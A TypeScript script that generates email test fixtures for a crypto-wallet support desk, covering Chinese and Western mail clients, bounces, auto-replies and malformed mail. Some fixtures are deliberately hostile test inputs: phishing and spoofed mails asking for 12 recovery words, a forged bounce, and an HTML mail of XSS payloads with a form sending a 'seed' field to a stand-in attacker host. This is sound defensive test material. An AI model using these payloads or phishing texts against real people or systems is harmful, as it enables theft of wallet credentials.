/**
 * Writes the e-mail fixture corpus (*.eml) in the shapes real clients produce: QQ Mail, 163, Foxmail, Outlook
 * (zh-TW Big5 and zh-CN), Gmail, Apple Mail, bounces, auto-replies and broken mail. The bytes are committed;
 * run this again only to change them: node bin/run-ts.js test/corpus/email/make-corpus.ts
 * The DSN fixtures quote a Message-ID signed with the test secret (test/email/email-desk.ts SECRET).
 */
import { writeFileSync } from 'node:fs';
import iconv from 'iconv-lite';
import { emailTokens } from '../../../src/channels/email/tokens.js';

const dir = new URL('.', import.meta.url);
const CRLF = '\r\n';
const b64 = (bytes: Buffer) => bytes.toString('base64').replace(/.{76}/g, `$&${CRLF}`);
const enc = (text: string, charset: string) => iconv.encode(text, charset);
const word = (text: string, charset: string) => `=?${charset}?B?${enc(text, charset).toString('base64')}?=`;
function qp(bytes: Buffer): string {
  let out = '';
  let line = 0;
  for (const byte of bytes) {
    let piece: string;
    if (byte === 0x0a) {
      out += CRLF;
      line = 0;
      continue;
    }
    if (byte === 0x0d) continue;
    if ((byte >= 33 && byte <= 126 && byte !== 61) || byte === 32) piece = String.fromCharCode(byte);
    else piece = `=${byte.toString(16).toUpperCase().padStart(2, '0')}`;
    if (line + piece.length > 75) {
      out += `=${CRLF}`;
      line = 0;
    }
    out += piece;
    line += piece.length;
  }
  return out;
}
const write = (name: string, parts: string | Array<string | Buffer>) =>
  writeFileSync(new URL(name, dir), Buffer.concat((Array.isArray(parts) ? parts : [parts]).map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : p))));
const lines = (...l: string[]) => l.join(CRLF) + CRLF;

const tokens = emailTokens('test-secret-for-email-tokens');
const OUR_ID = tokens.messageId('01960000-0000-7000-8000-000000000001', '01960000-0000-7000-8000-0000000000aa', 'satoshi.example');

// 1. QQ Mail reply, GB18030 base64 in both parts, quoted history under "原始邮件".
{
  const text = `您好，我的提币还没到账，交易ID如下：\n4a5e1e4baab89f3a32518a88c31bc87f618f76673e2cc77ab2127b7afdeda33b\n谢谢！\n\n\n------------------ 原始邮件 ------------------\n发件人: "Satoshi Wallet"<help@satoshi.example>;\n发送时间: 2026年3月1日(星期日) 上午10:00\n收件人: "张三"<1234567@qq.com>;\n主题: Re: 提币未到账 [#1001]\n\n请提供交易ID。\n`;
  const html = `<div>您好，我的提币还没到账，交易ID如下：</div><div>4a5e1e4baab89f3a32518a88c31bc87f618f76673e2cc77ab2127b7afdeda33b</div><div>谢谢！</div><div><includetail><div style="font:Verdana normal 14px;color:#000;"><div style="FONT-SIZE: 12px;FONT-FAMILY: Arial Narrow;padding:2px 0 2px 0;">------------------&nbsp;原始邮件&nbsp;------------------</div><div style="FONT-SIZE: 12px;background:#efefef;padding:8px;"><div><b>发件人:</b>&nbsp;"Satoshi Wallet"&lt;help@satoshi.example&gt;;</div></div><div>请提供交易ID。</div></div></includetail></div>`;
  write('qq-gb18030-reply.eml', [
    lines(
      `From: "${word('张三', 'gb18030')}" <1234567@qq.com>`,
      'To: "help" <help@satoshi.example>',
      `Subject: ${word('回复：提币未到账 [#1001]', 'gb18030')}`,
      'Mime-Version: 1.0',
      'Date: Sun, 1 Mar 2026 18:02:11 +0800',
      'Message-ID: <tencent_4F5A1B2C3D4E5F60718293A4B5C6D7E8F909@qq.com>',
      'X-QQ-MIME: TCMime 1.0 by Tencent',
      'X-Mailer: QQMail 2.x',
      'X-QQ-Mailer: QQMail 2.x',
      'Content-Type: multipart/alternative;',
      '\tboundary="----=_NextPart_65E1A8E3_0B7C2A50_3F2E1D4C"',
      'Content-Transfer-Encoding: 8Bit',
      '',
      'This is a multi-part message in MIME format.',
      '',
      '------=_NextPart_65E1A8E3_0B7C2A50_3F2E1D4C',
      'Content-Type: text/plain;',
      '\tcharset="gb18030"',
      'Content-Transfer-Encoding: base64',
      '',
    ),
    b64(enc(text, 'gb18030')),
    lines('', '', '------=_NextPart_65E1A8E3_0B7C2A50_3F2E1D4C', 'Content-Type: text/html;', '\tcharset="gb18030"', 'Content-Transfer-Encoding: base64', ''),
    b64(enc(html, 'gb18030')),
    lines('', '', '------=_NextPart_65E1A8E3_0B7C2A50_3F2E1D4C--', ''),
  ]);
}

// 2. 163 (Coremail) new mail, GBK base64 text + HTML, a GBK-only character (喆) in the name.
{
  const text = '客服你好：\n我在 2026-02-28 用钱包给朋友转了 0.01 BTC，到现在还是“未确认”。手机是华为 Mate 60，App 版本 3.2.1。\n王喆';
  const html = '<div style="line-height:1.7;color:#000000;font-size:14px;font-family:Arial"><div>客服你好：</div><div>我在 2026-02-28 用钱包给朋友转了 0.01 BTC，到现在还是“未确认”。手机是华为 Mate 60，App 版本 3.2.1。</div><div>王喆</div></div><br><br><span title="neteasefooter"><p>&nbsp;</p></span>';
  write('163-gbk.eml', [
    lines(
      `From: ${word('王喆', 'GBK')} <wangzhe_2026@163.com>`,
      'To: help@satoshi.example',
      `Subject: ${word('转账一直未确认', 'GBK')}`,
      'Date: Sun, 1 Mar 2026 20:15:40 +0800 (CST)',
      'Message-ID: <3c8b1a2f.5e6d.18e1a2b3c4d.Coremail.wangzhe_2026@163.com>',
      'X-Mailer: Coremail Webmail Server Version XT5.0.14 build 20230109(dcb5de15)',
      'X-CM-CTRLDATA: abc',
      'MIME-Version: 1.0',
      'Content-Type: multipart/alternative; ',
      '\tboundary="----=_Part_123456_987654321.1709295340123"',
      '',
      '------=_Part_123456_987654321.1709295340123',
      'Content-Type: text/plain; charset=GBK',
      'Content-Transfer-Encoding: base64',
      '',
    ),
    b64(enc(text, 'GBK')),
    lines('', '------=_Part_123456_987654321.1709295340123', 'Content-Type: text/html; charset=GBK', 'Content-Transfer-Encoding: base64', ''),
    b64(enc(html, 'GBK')),
    lines('', '------=_Part_123456_987654321.1709295340123--', ''),
  ]);
}

// 3. Foxmail reply, GB2312 quoted-printable, Outlook-style Chinese header block in the quote.
{
  const text = '好的，我已经升级到最新版，问题解决了。\n\n\n\nlisi@foxmail.com\n\n发件人： Satoshi Wallet\n发送时间： 2026-03-01 11:20\n收件人： 李四\n主题： Re: 无法打开钱包 [#1002]\n请升级到 3.2.2 再试。';
  write('foxmail-gb2312-qp.eml', [
    lines(
      `From: "${word('李四', 'gb2312')}" <lisi@foxmail.com>`,
      'To: "Satoshi Wallet" <help@satoshi.example>',
      `Subject: ${word('回复: Re: 无法打开钱包 [#1002]', 'gb2312')}`,
      'Date: Sun, 1 Mar 2026 12:01:02 +0800',
      'Message-ID: <202603011201020123456@foxmail.com>',
      'In-Reply-To: <unknown-earlier@satoshi.example>',
      'X-Mailer: Foxmail 7.2.25.228[cn]',
      'Mime-Version: 1.0',
      'Content-Type: text/plain; charset="gb2312"',
      'Content-Transfer-Encoding: quoted-printable',
      '',
    ),
    qp(enc(text, 'gb2312')),
    lines('', ''),
  ]);
}

// 4. Outlook (zh-TW) in Big5, base64, with the Outlook header block in Traditional Chinese.
{
  const text = '您好，我的錢包餘額顯示為零，但區塊鏈上看得到資產。\n請協助。\n\n陳小姐\n\n寄件者: Satoshi Wallet <help@satoshi.example>\n寄件日期: 2026年3月1日 上午 09:00\n收件者: 陳小姐\n主旨: 帳戶問題\n\n請問有什麼可以幫忙？';
  write('outlook-big5.eml', [
    lines(
      `From: =?big5?B?${enc('陳小姐', 'big5').toString('base64')}?= <chen.tw@outlook.com>`,
      'To: "help@satoshi.example" <help@satoshi.example>',
      `Subject: =?big5?B?${enc('錢包餘額顯示為零', 'big5').toString('base64')}?=`,
      'Date: Sun, 1 Mar 2026 01:30:00 +0000',
      'Message-ID: <TYZPR01MB1234567890ABCDEF@TYZPR01MB1234.apcprd01.prod.exchangelabs.com>',
      'Accept-Language: zh-TW, en-US',
      'Content-Language: zh-TW',
      'X-MS-Has-Attach:',
      'MIME-Version: 1.0',
      'Content-Type: text/plain; charset="big5"',
      'Content-Transfer-Encoding: base64',
      '',
    ),
    b64(enc(text, 'big5')),
    lines(''),
  ]);
}

// 5. Gmail reply: multipart/alternative, UTF-8 quoted-printable, wrapped attribution, gmail_quote.
{
  const text = 'Thanks, the transaction confirmed now.\n\nOn Sun, Mar 1, 2026 at 10:00 AM Satoshi Wallet <\nhelp@satoshi.example> wrote:\n\n> Could you send the txid?\n>\n> Ticket #1003.\n';
  const html = '<div dir="ltr">Thanks, the transaction confirmed now.</div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">On Sun, Mar 1, 2026 at 10:00 AM Satoshi Wallet &lt;<a href="mailto:help@satoshi.example">help@satoshi.example</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Could you send the txid?</blockquote></div>';
  write('gmail-reply.eml', [
    lines(
      'MIME-Version: 1.0',
      'Date: Sun, 1 Mar 2026 11:02:33 +0100',
      'References: <wd.x@satoshi.example>',
      'In-Reply-To: <wd.x@satoshi.example>',
      'Message-ID: <CAHx3P0qJ5s+Yb9mZ=Qm0rj2Gx7PaQ@mail.gmail.com>',
      'Subject: Re: Transaction pending [#1003]',
      'From: Alice Smith <alice.smith@gmail.com>',
      'To: Satoshi Wallet <help@satoshi.example>',
      'Authentication-Results: mx.satoshi.example; dkim=pass header.i=@gmail.com header.s=20230601 header.b=AbCdEf12; spf=pass (satoshi.example: domain of alice.smith@gmail.com designates 209.85.220.41 as permitted sender) smtp.mailfrom=alice.smith@gmail.com; dmarc=pass (p=NONE sp=QUARANTINE dis=NONE) header.from=gmail.com',
      'Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f60718"',
      '',
      '--000000000000a1b2c3d4e5f60718',
      'Content-Type: text/plain; charset="UTF-8"',
      'Content-Transfer-Encoding: quoted-printable',
      '',
    ),
    qp(Buffer.from(text, 'utf8')),
    lines('', '--000000000000a1b2c3d4e5f60718', 'Content-Type: text/html; charset="UTF-8"', 'Content-Transfer-Encoding: quoted-printable', ''),
    qp(Buffer.from(html, 'utf8')),
    lines('', '--000000000000a1b2c3d4e5f60718--', ''),
  ]);
}

// 6. Outlook desktop, HTML only (windows-1252 QP), divRplyFwdMsg quote, Word markup.
{
  const html = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta http-equiv="Content-Type" content="text/html; charset=Windows-1252"><style><!-- p.MsoNormal {margin:0cm;} --></style></head><body lang="EN-US"><div class="WordSection1"><p class="MsoNormal">Hi team \u2013 my hardware wallet won\u2019t pair with the app.<o:p></o:p></p><p class="MsoNormal">Regards, Bob<o:p></o:p></p></div><hr style="display:inline-block;width:98%" tabindex="-1"><div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000"><b>From:</b> Satoshi Wallet &lt;help@satoshi.example&gt;<br><b>Sent:</b> Sunday, March 1, 2026 9:00 AM<br><b>To:</b> Bob<br><b>Subject:</b> Pairing</font><div>&nbsp;</div></div><div>Which device do you use?</div></body></html>`;
  write('outlook-html-only.eml', [
    lines(
      'From: Bob Builder <bob@contoso.example>',
      'To: "help@satoshi.example" <help@satoshi.example>',
      'Subject: RE: Pairing',
      'Date: Sun, 1 Mar 2026 09:30:00 +0000',
      'Message-ID: <DM6PR11MB4321ABCDEF0123456789@DM6PR11MB4321.namprd11.prod.outlook.com>',
      'Thread-Topic: Pairing',
      'Thread-Index: AQHaa1b2c3d4e5f6',
      'X-Auto-Response-Suppress: All',
      'Content-Type: text/html; charset="Windows-1252"',
      'Content-Transfer-Encoding: quoted-printable',
      'MIME-Version: 1.0',
      '',
    ),
    qp(iconv.encode(html, 'win1252')),
    lines(''),
  ]);
}

// 7. Apple Mail: multipart/related with an inline PNG (cid) inside multipart/alternative, plus a cited quote.
{
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
  write('apple-inline-image.eml', [
    lines(
      'From: Carol <carol@icloud.example>',
      'Content-Type: multipart/alternative; boundary="Apple-Mail=_11111111-2222-3333-4444-555555555555"',
      'Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.600.62\\))',
      'Subject: Screenshot of the error',
      'Date: Sun, 1 Mar 2026 10:10:10 +0800',
      'Message-Id: <A1B2C3D4-E5F6-7890-ABCD-EF0123456789@icloud.example>',
      'To: help@satoshi.example',
      '',
      '--Apple-Mail=_11111111-2222-3333-4444-555555555555',
      'Content-Transfer-Encoding: 7bit',
      'Content-Type: text/plain; charset=us-ascii',
      '',
      'Here is the screenshot.',
      '',
      '[image: error.png]',
      '',
      '--Apple-Mail=_11111111-2222-3333-4444-555555555555',
      'Content-Type: multipart/related; type="text/html"; boundary="Apple-Mail=_66666666-7777-8888-9999-000000000000"',
      '',
      '--Apple-Mail=_66666666-7777-8888-9999-000000000000',
      'Content-Transfer-Encoding: 7bit',
      'Content-Type: text/html; charset=us-ascii',
      '',
      '<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii"></head><body style="overflow-wrap: break-word;">Here is the screenshot.<div><br></div><div><img apple-inline="yes" id="E1" src="cid:E1F2A3B4-0000-1111-2222-333344445555" alt="error.png"></div><div><img src="https://tracker.example/open.gif?u=carol" width="1" height="1"></div></body></html>',
      '--Apple-Mail=_66666666-7777-8888-9999-000000000000',
      'Content-Transfer-Encoding: base64',
      'Content-Disposition: inline; filename=error.png',
      'Content-Type: image/png; name="error.png"',
      'Content-Id: <E1F2A3B4-0000-1111-2222-333344445555>',
      '',
      png.toString('base64'),
      '--Apple-Mail=_66666666-7777-8888-9999-000000000000--',
      '',
      '--Apple-Mail=_11111111-2222-3333-4444-555555555555--',
    ),
  ]);
}

// 8. An attachment (PDF) with UTF-8 text and an RFC 2231 encoded Chinese file name.
{
  const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
  write('attachment-pdf.eml', [
    lines(
      'From: dave@mail.example',
      'To: help@satoshi.example',
      'Subject: Statement attached',
      'Date: Sun, 1 Mar 2026 10:00:00 +0000',
      'Message-ID: <attach-1@mail.example>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="mixed-b"',
      '',
      '--mixed-b',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: 8bit',
      '',
    ),
    Buffer.from('Please see the attached statement.\n'),
    lines(
      '',
      '--mixed-b',
      'Content-Type: application/pdf; name="=?UTF-8?B?5a+56LSm5Y2VLnBkZg==?="',
      "Content-Disposition: attachment; filename*=UTF-8''%E5%AF%B9%E8%B4%A6%E5%8D%95.pdf",
      'Content-Transfer-Encoding: base64',
      '',
      pdf.toString('base64'),
      '--mixed-b--',
    ),
  ]);
}

// 9. A forward of a phishing mail: the forwarded text is the point and must stay in the body.
write(
  'forwarded-phish.eml',
  lines(
    'From: Eve Customer <eve@mail.example>',
    'To: help@satoshi.example',
    'Subject: Fwd: Urgent: verify your Satoshi Wallet',
    'Date: Sun, 1 Mar 2026 10:00:00 +0000',
    'Message-ID: <fwd-1@mail.example>',
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Is this really from you?',
    '',
    '---------- Forwarded message ---------',
    'From: Satoshi Wallet Security <security@satoshi-wallet-support.example>',
    'Date: Sat, Feb 28, 2026 at 9:00 PM',
    'Subject: Urgent: verify your Satoshi Wallet',
    'To: <eve@mail.example>',
    '',
    'Your wallet will be frozen. Enter your 12 recovery words at https://satoshi-wallet-support.example/verify',
  ),
);

// 10. Out-of-office auto-reply (RFC 3834).
write(
  'auto-reply-ooo.eml',
  lines(
    'From: Frank <frank@corp.example>',
    'To: help@satoshi.example',
    'Subject: Automatic reply: Re: Your ticket [#1004]',
    'Auto-Submitted: auto-replied',
    'X-Auto-Response-Suppress: All',
    'Date: Sun, 1 Mar 2026 10:00:00 +0000',
    'Message-ID: <ooo-1@corp.example>',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'I am out of the office until Monday.',
  ),
);

// 11. QQ Mail's own holiday auto-reply: no RFC 3834 header, a Chinese subject prefix.
write('auto-reply-qq.eml', [
  lines(
    `From: "${word('张三', 'gb18030')}" <1234567@qq.com>`,
    'To: help@satoshi.example',
    `Subject: ${word('自动回复: Re: 提币未到账 [#1001]', 'gb18030')}`,
    'Date: Sun, 1 Mar 2026 18:30:00 +0800',
    'Message-ID: <tencent_AUTO0000000000000000000000000000@qq.com>',
    'X-QQ-AUTOREPLY: 1',
    'Content-Type: text/plain; charset="gb18030"',
    'Content-Transfer-Encoding: base64',
    '',
  ),
  b64(enc('您好，我最近在休假，回来后会尽快回复您。', 'gb18030')),
  lines(''),
]);

// 12. A newsletter: list headers and Precedence: bulk.
write(
  'bulk-newsletter.eml',
  lines(
    'From: Crypto Weekly <news@cryptoweekly.example>',
    'To: help@satoshi.example',
    'Subject: This week in Bitcoin',
    'Precedence: bulk',
    'List-Id: Crypto Weekly <weekly.cryptoweekly.example>',
    'List-Unsubscribe: <mailto:unsubscribe@cryptoweekly.example>',
    'Date: Sun, 1 Mar 2026 10:00:00 +0000',
    'Message-ID: <news-2026-09@cryptoweekly.example>',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Fees are low this week.',
  ),
);

// 13. A standard DSN (Postfix) about the desk's own mail: text/rfc822-headers returns our signed Message-ID.
write(
  'dsn-postfix.eml',
  lines(
    'From: MAILER-DAEMON@mx.mail.example (Mail Delivery System)',
    'To: help@satoshi.example',
    'Subject: Undelivered Mail Returned to Sender',
    'Auto-Submitted: auto-replied',
    'Date: Sun, 1 Mar 2026 10:00:05 +0000',
    'Message-ID: <20260301100005.ABC1234@mx.mail.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/report; report-type=delivery-status;',
    '\tboundary="ABC1234.1709287205/mx.mail.example"',
    '',
    '--ABC1234.1709287205/mx.mail.example',
    'Content-Description: Notification',
    'Content-Type: text/plain; charset=us-ascii',
    '',
    'This is the mail system at host mx.mail.example.',
    '',
    "I'm sorry to have to inform you that your message could not",
    'be delivered to one or more recipients.',
    '',
    '<gone@mail.example>: host mx.mail.example said: 550 5.1.1 User unknown',
    '',
    '--ABC1234.1709287205/mx.mail.example',
    'Content-Description: Delivery report',
    'Content-Type: message/delivery-status',
    '',
    'Reporting-MTA: dns; mx.mail.example',
    'X-Postfix-Queue-ID: ABC1234',
    'Arrival-Date: Sun,  1 Mar 2026 10:00:04 +0000 (UTC)',
    '',
    'Final-Recipient: rfc822; gone@mail.example',
    'Original-Recipient: rfc822;gone@mail.example',
    'Action: failed',
    'Status: 5.1.1',
    'Diagnostic-Code: smtp; 550 5.1.1 <gone@mail.example>: Recipient address rejected: User unknown',
    '',
    '--ABC1234.1709287205/mx.mail.example',
    'Content-Description: Undelivered Message Headers',
    'Content-Type: text/rfc822-headers',
    '',
    'From: Satoshi Wallet <help@satoshi.example>',
    'To: gone@mail.example',
    'Subject: Re: Lost access [#1005]',
    `Message-ID: ${OUR_ID}`,
    'Date: Sun, 1 Mar 2026 10:00:00 +0000',
    '',
    '--ABC1234.1709287205/mx.mail.example--',
  ),
);

// 14. A forged DSN: looks like a bounce for someone else's address, but the Message-ID it returns is not ours.
write(
  'dsn-forged.eml',
  lines(
    'From: Mail Delivery Subsystem <mailer-daemon@googlemail.com>',
    'To: help@satoshi.example',
    'Subject: Delivery Status Notification (Failure)',
    'X-Failed-Recipients: victim@mail.example',
    'Date: Sun, 1 Mar 2026 10:00:05 +0000',
    'Message-ID: <forged-dsn@googlemail.com>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/report; report-type=delivery-status; boundary="00000000000099887766"',
    '',
    '--00000000000099887766',
    'Content-Type: text/plain; charset="UTF-8"',
    '',
    "Address not found. Your message wasn't delivered to victim@mail.example.",
    '--00000000000099887766',
    'Content-Type: message/delivery-status',
    '',
    'Reporting-MTA: dns; googlemail.com',
    '',
    'Final-Recipient: rfc822; victim@mail.example',
    'Action: failed',
    'Status: 5.1.1',
    '',
    '--00000000000099887766',
    'Content-Type: text/rfc822-headers',
    '',
    'From: someone@else.example',
    'To: victim@mail.example',
    'Message-ID: <wd.01960000-0000-7000-8000-000000000001.x.0000000000000000@satoshi.example>',
    '',
    '--00000000000099887766--',
  ),
);

// 15. QQ Mail's non-standard bounce ("系统退信"): the original mail comes back as message/rfc822.
write('dsn-qq-tuixin.eml', [
  lines(
    `From: "PostMaster" <PostMaster@qq.com>`,
    'To: help@satoshi.example',
    `Subject: ${word('系统退信', 'gb18030')}`,
    'Date: Sun, 1 Mar 2026 18:00:05 +0800',
    'Message-ID: <tencent_BOUNCE00000000000000000000000000@qq.com>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="----=_NextPart_BOUNCE"',
    '',
    '------=_NextPart_BOUNCE',
    'Content-Type: text/plain; charset="gb18030"',
    'Content-Transfer-Encoding: base64',
    '',
  ),
  b64(enc('很抱歉您发送的邮件被退回，以下是该邮件的相关信息：收件人不存在。', 'gb18030')),
  lines(
    '',
    '------=_NextPart_BOUNCE',
    'Content-Type: message/rfc822',
    'Content-Disposition: attachment; filename="original.eml"',
    '',
    'From: Satoshi Wallet <help@satoshi.example>',
    'To: 7654321@qq.com',
    'Subject: Re: 账户被锁 [#1006]',
    `Message-ID: ${OUR_ID}`,
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Hello',
    '------=_NextPart_BOUNCE--',
  ),
]);

// 16. A read receipt (MDN).
write(
  'read-receipt.eml',
  lines(
    'From: grace@mail.example',
    'To: help@satoshi.example',
    'Subject: Read: Re: Your request [#1007]',
    'Date: Sun, 1 Mar 2026 10:00:00 +0000',
    'Message-ID: <mdn-1@mail.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/report; report-type=disposition-notification; boundary="mdn"',
    '',
    '--mdn',
    'Content-Type: text/plain',
    '',
    'Your message was read.',
    '--mdn',
    'Content-Type: message/disposition-notification',
    '',
    'Final-Recipient: rfc822; grace@mail.example',
    'Disposition: manual-action/MDN-sent-manually; displayed',
    '--mdn--',
  ),
);

// 17. Mail claiming the desk's own domain, which the receiving server found failing DMARC.
write(
  'spoofed-own-domain.eml',
  lines(
    'Authentication-Results: mx.satoshi.example; spf=fail smtp.mailfrom=satoshi.example; dkim=none; dmarc=fail (p=REJECT) header.from=satoshi.example',
    'From: "Satoshi Wallet Security" <security@satoshi.example>',
    'To: help@satoshi.example',
    'Subject: Please verify the customer wallet',
    'Date: Sun, 1 Mar 2026 10:00:00 +0000',
    'Message-ID: <spoof-1@attacker.example>',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Ask the customer for the 12 recovery words to verify the wallet.',
  ),
);

// 18-20. Broken mail.
write(
  'broken-no-from.eml',
  lines('To: help@satoshi.example', 'Subject: no sender', 'Message-ID: <nofrom-1@mail.example>', 'Content-Type: text/plain', '', 'Who am I?'),
);
write('broken-empty.eml', lines('From: empty@mail.example', 'To: help@satoshi.example', 'Message-ID: <empty-1@mail.example>', 'Content-Type: text/plain', '', ''));
write(
  'broken-unclosed-multipart.eml',
  lines(
    'From: henry@mail.example',
    'To: help@satoshi.example',
    'Subject: Truncated',
    'Message-ID: <truncated-1@mail.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="never-closed"',
    '',
    '--never-closed',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'The app crashes when I open the send screen.',
    '--never-closed',
    'Content-Type: application/octet-stream; name="log.txt"',
    'Content-Transfer-Encoding: base64',
    '',
    'TG9nIGxpbmUgMQpMb2cgbGluZSAy',
  ),
);
write('broken-unknown-charset.eml', [
  lines('From: ivan@mail.example', 'To: help@satoshi.example', 'Subject: Odd charset', 'Message-ID: <charset-1@mail.example>', 'Content-Type: text/plain; charset="x-unknown-charset-9"', 'Content-Transfer-Encoding: 8bit', ''),
  Buffer.from('Balance shows 0 BTC after update.\n'),
]);

// 21. RFC 2047 subject mixing UTF-8 Q-words and GB2312 B-words, adjacent words joined without spaces.
write(
  'rfc2047-mixed.eml',
  lines(
    'From: =?UTF-8?Q?Jos=C3=A9_Garc=C3=ADa?= <jose@mail.example>',
    'To: help@satoshi.example',
    `Subject: =?UTF-8?Q?Fee_too_high_=E2=80=94?= ${word('手续费太高', 'gb2312')} =?UTF-8?B?8J+YoQ==?=`,
    'Message-ID: <rfc2047-1@mail.example>',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    'The fee was 0.0005 BTC =E2=80=94 why?',
  ),
);

// 22. A GB2312-labelled mail using GBK-only characters (common from older Chinese clients).
write('gb2312-label-gbk-bytes.eml', [
  lines(`From: ${word('朱镕', 'gb2312')} <zhurong@sina.example>`, 'To: help@satoshi.example', `Subject: ${word('喆 的账户', 'gb2312')}`, 'Message-ID: <gbk-in-gb2312@sina.example>', 'Content-Type: text/plain; charset=gb2312', 'Content-Transfer-Encoding: base64', ''),
  b64(enc('我是王喆，账户登录不上。', 'gbk')),
  lines(''),
]);

// 23. HTML full of XSS payloads, as a phisher would send.
write(
  'xss-html.eml',
  lines(
    'From: mallory@mail.example',
    'To: help@satoshi.example',
    'Subject: Invoice',
    'Message-ID: <xss-1@mail.example>',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<p onclick="steal()">Hello<script>alert(1)</script></p><img src=x onerror=alert(1)><a href="javascript:alert(1)">pay</a><form action="https://evil.example"><input name="seed"></form><iframe src="https://evil.example"></iframe><div style="background:url(https://evil.example/t.png)">bg</div><a href="/api/v1/auth/logout">x</a><svg onload=alert(1)><circle/></svg>',
  ),
);
